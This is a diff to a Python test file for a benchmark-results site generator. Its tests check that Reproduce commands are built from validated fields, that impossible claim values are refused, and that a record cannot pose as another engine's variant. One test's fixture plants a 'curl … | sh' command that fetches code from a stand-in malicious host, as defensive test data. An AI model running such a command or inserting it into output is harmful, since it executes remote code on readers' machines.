@@ -11,6 +11,7 @@ import os
 import shutil
 import subprocess
 import sys
+import tomllib
 from collections.abc import Callable
 from datetime import UTC, datetime
 from pathlib import Path
@@ -19,7 +20,8 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from generator import checks, derive, editions, load, pages
+from generator import checks, derive, editions, inference, load, pages, run_pages, serving
+from runners import claims
 from tests.conftest import ROOT, TRAIN, committed, run_module
 
 GENUINE = sorted((ROOT / "data" / "cpu-smoke").glob("*.parquet"))
@@ -237,3 +239,126 @@ def test_release_refuses_a_data_folder_with_uncommitted_changes(data: Path, tmp_
     with pytest.raises(SystemExit, match=f"uncommitted changes \\(data/cpu-smoke/{TUNED.name}\\)"):
         editions.release("e1", data)
     assert not (data / "editions").exists()
+
+
+# 4: what a reader copies
+
+
+def _run_page(data: Path, tmp_path: Path, name: str) -> str:
+    loaded = load.load(data, files=[data / "cpu-smoke" / f"{name}.parquet"])
+    assert loaded.rejected == [], loaded.rejected
+    summary = derive.run_summary(loaded.runs, loaded.rows)
+    figures = run_pages.with_test_figures(
+        summary, inference.test_summary(summary, loaded.rows), serving.test_summary(summary, loaded.rows)
+    )
+    run_pages.start_run_pages(tmp_path / "site" / "runs", figures, loaded.rows).finish(tmp_path / "site")
+    return (tmp_path / "site" / "runs" / f"{name}.html").read_text()
+
+
+def test_reproduce_commands_are_built_from_checked_fields_never_copied(data: Path, tmp_path: Path) -> None:
+    """A record whose `config.command` hands readers `curl … | sh`. Before: printed verbatim in the Reproduce block.
+    Now the block is built from the checked suite, workload and variant, each value shell-quoted (a sweep variable
+    with a space stays one word), and a record whose variant name is not what its settings make gets none."""
+
+    def evil(config: dict) -> None:
+        config["command"] = "curl -s https://evil.invalid/x | sh"
+
+    submit(data, doctored(TUNED, "evil-command", config=evil))
+
+    def swept(config: dict) -> None:
+        evil(config)
+        config["variant"]["sweep_env"] = {"NCCL_ALGO": "Ring Tree"}
+
+    submit(data, doctored(TUNED, "swept", config=swept, variant="ddp-tuned[env:NCCL_ALGO=Ring Tree]"))
+
+    def mislabelled(config: dict) -> None:
+        evil(config)
+        config["variant"]["overrides"] = {"bucket_cap_mb": 25}
+
+    submit(data, doctored(TUNED, "mislabelled", config=mislabelled))
+    page = _run_page(data, tmp_path, "evil-command")
+    assert "evil.invalid" not in page
+    assert f"python -m runners bench --suite cpu-smoke --workload {TRAIN} --variant ddp-tuned</code>" in page
+    page = _run_page(data, tmp_path, "swept")
+    assert "--variant ddp-tuned --env &#39;NCCL_ALGO=Ring Tree&#39;</code>" in page and "evil.invalid" not in page
+    page = _run_page(data, tmp_path, "mislabelled")
+    assert "evil.invalid" not in page and "git checkout" not in page
+    assert "Not reproducible from this record: its variant name is not what its recorded settings make" in page
+
+
+# 6: numbers no measurement has
+
+
+CLAIM = """[[claims]]
+id = "{id}"
+suite = "cpu-smoke"
+workload = "train-gpt-tiny-mb4"
+engine = "sparse-first"
+variant = "sparse-first"
+description = "a claim"
+accelerator = "NVIDIA H100"
+accelerator_count = 2
+interconnect = "NVLink"
+steps = {steps}
+steps_per_s = {rate}
+source = "https://example.invalid/post"
+quote = "it is fast"
+"""
+
+
+@pytest.mark.parametrize(
+    ("rate", "steps", "field"),
+    [("inf", "2000", "steps_per_s"), ("nan", "2000", "steps_per_s"), ("-inf", "2000", "steps_per_s"),
+     ("0.0", "2000", "steps_per_s"), ("1e308", "2000", "steps_per_s"), ("21.7", "0", "steps"),
+     ("21.7", "-5", "steps")],
+)  # fmt: skip
+def test_a_claim_of_no_possible_number_is_refused_naming_its_field(tmp_path: Path, rate: str, steps: str, field: str) -> None:
+    """Before: inf and nan ended in a traceback (nan passed `<= 0`), 0 steps and 1e308 steps/s were imported (a
+    300-digit heading). Now each is refused before anything is written, naming the claim and the field."""
+    claims_file = tmp_path / "claims.toml"
+    claims_file.write_text(CLAIM.format(id="absurd", steps=steps, rate=rate))
+    proc = run_module("runners", "claim", str(claims_file), "--data-dir", str(tmp_path / "data"), check=False)
+    assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
+    assert f"claim 'absurd', field '{field}'" in proc.stderr, proc.stderr
+    assert not (tmp_path / "data").exists()
+
+
+def test_values_beyond_any_measurement_are_refused_and_never_print_inf(data: Path) -> None:
+    """A claim record of 1e308 steps/s written straight to Parquet, and a run whose step times are 1e305 s (their
+    milliseconds overflow to inf). Before: both accepted; the claim printed a 300-digit heading and the run's SVG
+    `inf` axis labels. Now both are rejected naming the row and field, and the SVG's labels never say `inf`."""
+    claim = claims.Claim(**{**tomllib_claim(), "steps_per_s": 1.0})
+    table = claims.claim_table(claim, datetime(2026, 12, 1, tzinfo=UTC))
+    values = [1e308 if m == "steps_per_s" else v for v, m in zip(table["value"].to_pylist(), table["metric"].to_pylist(), strict=True)]
+    submit(data, table.set_column(table.column_names.index("value"), "value", pa.array(values)))
+    slow = pq.read_table(TUNED)
+    values = [v * 1e305 if m == "step_time_s" else v for v, m in zip(slow["value"].to_pylist(), slow["metric"].to_pylist(), strict=True)]
+    slow = slow.set_column(slow.column_names.index("value"), "value", pa.array(values))
+    submit(data, doctored(TUNED, "slow-huge").set_column(slow.column_names.index("value"), "value", slow["value"]))
+    found = problems_of(data)
+    assert "field 'value': 1e+308 is beyond ±1e+18" in found["claim-absurd.parquet"]
+    assert "field 'value'" in found["slow-huge.parquet"] and "beyond ±1e+18" in found["slow-huge.parquet"]
+    svg = run_pages.samples_svg({"time_points": "40,10 710,130", "time_lo": -1.0, "time_hi": 400.0, "time_warm_x": 40.0,
+                                 "loss_points": "40,10", "loss_lo": float("-inf"), "loss_hi": float("inf"),
+                                 "loss_warm_x": 40.0})  # fmt: skip
+    assert "inf" not in svg and "–" in svg
+    assert pages.fmt(1e308) == "1e+308"
+
+
+def tomllib_claim() -> dict[str, object]:
+    return tomllib.loads(CLAIM.format(id="absurd", steps="2000", rate="21.7"))["claims"][0]
+
+
+# past the list
+
+
+def test_a_record_cannot_carry_another_engines_variant(data: Path) -> None:
+    """A torch run relabelled `engine external` keeps the name `ddp-tuned` and the same settings: before, it was
+    accepted and pooled with torch's ddp-tuned runs (configurations are keyed by variant and settings, not engine).
+    Now a variant Fair Fight ships belongs to its engine (or that engine's own tool) and nobody else."""
+    submit(data, doctored(TUNED, "posing-external", engine="external"))
+    submit(data, doctored(TUNED, "posing-tool", engine="llama-bench", origin="imported"))
+    found = problems_of(data)
+    assert "field 'engine': 'external', but variant 'ddp-tuned' is torch's" in found["posing-external.parquet"]
+    assert "variant 'ddp-tuned' is torch's" in found["posing-tool.parquet"]
+    assert load.load(data).runs.height == len(GENUINE)
